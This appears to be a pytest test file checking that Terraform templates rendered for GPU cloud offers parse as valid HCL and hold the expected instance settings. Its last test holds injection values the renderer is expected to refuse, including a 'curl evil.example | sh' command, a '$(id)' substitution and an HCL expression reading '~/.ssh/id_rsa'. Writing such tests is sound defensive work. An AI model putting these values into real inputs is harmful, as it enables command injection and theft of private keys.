"""Every Terraform template renders valid HCL (parsed with python-hcl2) for real catalog offers."""

from __future__ import annotations

from typing import Any

import hcl2
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from catalog import service
from catalog.models import Offer
from iac_templates.render import UnsafeTerraformValue, render_terraform


def parse(text: str) -> Any:
    """python-hcl2 8 keeps the quotes of block labels and strings; the tests read plain values."""

    def clean(v: Any) -> Any:
        if isinstance(v, dict):
            return {str(k).strip('"'): clean(x) for k, x in v.items()}
        if isinstance(v, list):
            return [clean(x) for x in v]
        if isinstance(v, str):
            return v.strip('"')
        return v

    return clean(hcl2.loads(text))


@pytest.mark.parametrize("provider", ["aws", "gcp", "lambda", "runpod", "shadeform"])
@pytest.mark.parametrize("spot", [False, True])
def test_offers_render_parseable_terraform(db: Session, provider: str, spot: bool) -> None:
    oid = db.execute(
        select(Offer.id).where(Offer.provider == provider, Offer.spot.is_(spot)).limit(1)
    ).scalar()
    if oid is None:
        oid = db.execute(select(Offer.id).where(Offer.provider == provider).limit(1)).scalar_one()
    offer = service.get_offer(db, oid)
    template, text, notes = render_terraform(offer)
    parsed = parse(text)
    expected = {"aws": "aws.tf.j2", "gcp": "gcp.tf.j2", "lambda": "lambda.tf.j2", "runpod": "runpod.tf.j2"}
    expected.update({p: f"{p}.tf.j2" for p in TERRAFORM_PROVIDERS})
    assert template == expected.get(provider, "generic.tf.j2")
    assert offer["id"] in text
    if provider == "aws":
        res = parsed["resource"][0]["aws_instance"]
        inst = next(iter(res.values()))
        assert inst["instance_type"] == offer["external_id"].split("/")[0]
        assert ("instance_market_options" in inst) is offer["spot"]
    if provider == "gcp":
        inst = next(iter(parsed["resource"][0]["google_compute_instance"].values()))
        assert inst["machine_type"].startswith(("a2-", "a3-", "a4-", "g2-"))
        assert any("host VM" in n for n in notes)
    if template == "generic.tf.j2":
        assert any("fill in" in n for n in notes)


def test_azure_template_parses() -> None:
    offer: dict[str, Any] = {
        "id": "azure-x",
        "provider": "azure",
        "external_id": "Standard_ND96isr_H100_v5/eastus",
        "name": "ND96isr H100 v5",
        "gpu_family": "H100",
        "gpu_variant": "SXM",
        "gpu_count": 8,
        "gpu_memory_gb": 80,
        "price_per_hour": 98.32,
        "region": "eastus",
        "spot": True,
        "tags": [],
    }
    template, text, _ = render_terraform(offer)
    vm = next(iter(parse(text)["resource"][1]["azurerm_linux_virtual_machine"].values()))
    assert template == "azure.tf.j2" and vm["size"] == "Standard_ND96isr_H100_v5" and vm["priority"] == "Spot"


# Every catalog provider that has a Terraform provider, and the resource its template declares.
TERRAFORM_PROVIDERS = {
    "nebius": ("nebius/nebius", "nebius_compute_v1_instance"),
    "oci": ("oracle/oci", "oci_core_instance"),
    "digitalocean": ("digitalocean/digitalocean", "digitalocean_droplet"),
    "paperspace": ("Paperspace/paperspace", "paperspace_machine"),
    "scaleway": ("scaleway/scaleway", "scaleway_instance_server"),
    "ovhcloud": ("ovh/ovh", "ovh_cloud_project_instance"),
    "ibm": ("IBM-Cloud/ibm", "ibm_is_instance"),
    "cudo": ("CudoVentures/cudo", "cudo_vm"),
}


def _resources(parsed: Any) -> dict[str, dict[str, Any]]:
    found: dict[str, dict[str, Any]] = {}
    for block in parsed.get("resource", []):
        for kind, named in block.items():
            if kind.startswith("__"):
                continue
            for label, body in named.items():
                if not label.startswith("__"):
                    found[kind] = body
    return found


@pytest.mark.parametrize("provider", sorted(TERRAFORM_PROVIDERS))
def test_each_provider_with_a_terraform_provider_gets_its_own_template(db: Session, provider: str) -> None:
    """Rendered for a real offer of the catalog: the provider's own Terraform provider, the offer's
    instance type, region and GPU count in the resource, never the empty generic skeleton."""
    oid = db.execute(
        select(Offer.id).where(Offer.provider == provider).order_by(Offer.price_per_hour).limit(1)
    ).scalar_one()
    offer = service.get_offer(db, oid)
    template, text, notes = render_terraform(offer)
    assert template == f"{provider}.tf.j2"
    parsed = parse(text)
    source, resource = TERRAFORM_PROVIDERS[provider]
    required = parsed["terraform"][0]["required_providers"][0]
    assert [v["source"] for k, v in required.items() if not k.startswith("__")] == [source]
    body = _resources(parsed)[resource]
    assert offer["id"] in text and f"{float(offer['price_per_hour']):.4f}" in text
    assert not any("fill in" in n for n in notes) and notes
    name = offer["name"]
    if provider == "nebius":
        platform, _, preset = name.partition("_")
        assert body["resources"] == {"platform": platform, "preset": preset}
        assert ("preemptible" in body) is offer["spot"]
    elif provider == "oci":
        assert body["shape"] == name and ("preemptible_instance_config" in body) is offer["spot"]
    elif provider == "digitalocean":
        assert body["size"] == name and body["region"] == offer["region"]
    elif provider == "paperspace":
        assert body["machine_type"] == name and body["region"] == offer["region"]
    elif provider == "scaleway":
        assert body["type"] == name
    elif provider == "ovhcloud":
        assert body["region"] in (offer["zone"], offer["region"]) and body["billing_period"] == "hourly"
    elif provider == "ibm":
        assert body["profile"] == name
    elif provider == "cudo":
        assert name.startswith(body["machine_type"]) and body["gpus"] == offer["gpu_count"]
        assert body["data_center_id"] == offer["region"]


@pytest.mark.parametrize("provider", ["nebius"])
def test_spot_offers_render_preemptible_instances(db: Session, provider: str) -> None:
    oid = db.execute(
        select(Offer.id).where(Offer.provider == provider, Offer.spot.is_(True)).limit(1)
    ).scalar()
    if oid is None:
        pytest.fail(f"the bundled catalog has no {provider} spot offer")
    parsed = parse(render_terraform(service.get_offer(db, oid))[1])
    body = _resources(parsed)[TERRAFORM_PROVIDERS[provider][1]]
    assert ("preemptible" if provider == "nebius" else "preemptible_instance_config") in body


def test_vast_renders_a_rental_through_its_api(db: Session) -> None:
    oid = db.execute(select(Offer.id).where(Offer.provider == "vast").limit(1)).scalar_one()
    offer = service.get_offer(db, oid)
    template, text, notes = render_terraform(offer)
    assert template == "vast.tf.j2"
    data = _resources(parse(text))["terraform_data"]
    assert data["input"]["num_gpus"] == offer["gpu_count"]
    assert "/api/v0/asks/" in text and "VAST_API_KEY" in text
    assert any("no official Terraform provider" in n for n in notes)


def test_every_offer_of_the_catalog_renders(db: Session) -> None:
    """The values the templates refuse (see below) never occur in a real catalog: every offer renders."""
    ids = db.execute(select(Offer.id)).scalars().all()
    assert len(ids) > 1000
    for oid in ids:
        render_terraform(service.get_offer(db, oid))


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("region", 'us-east-1"\n}\nresource "null_resource" "x" {'),
        ("region", '${file("~/.ssh/id_rsa")}'),
        ("name", "1x-RTX_4090'; curl evil.example | sh; echo '-1-2"),
        ("external_id", "p5.48xlarge$(id)"),
        ("region", "eu\\west"),
    ],
)
def test_a_value_that_could_break_out_of_its_string_is_refused(db: Session, field: str, value: str) -> None:
    """A provider's catalog (or a request) that holds a quote, "${", "$(", a backslash or a newline must not
    reach an HCL string or the shell of a local-exec: the render is refused, naming the value."""
    # Vast's template reads the offer's name (its GPU name, for the shell of a local-exec), AWS's the
    # instance type from the external id; all three write the region.
    for provider in {"name": ("vast",), "external_id": ("aws",)}.get(field, ("aws", "vast", "lambda")):
        oid = db.execute(select(Offer.id).where(Offer.provider == provider).limit(1)).scalar_one()
        offer = {**service.get_offer(db, oid), field: value}
        with pytest.raises(UnsafeTerraformValue, match="cannot be written into Terraform"):
            render_terraform(offer)
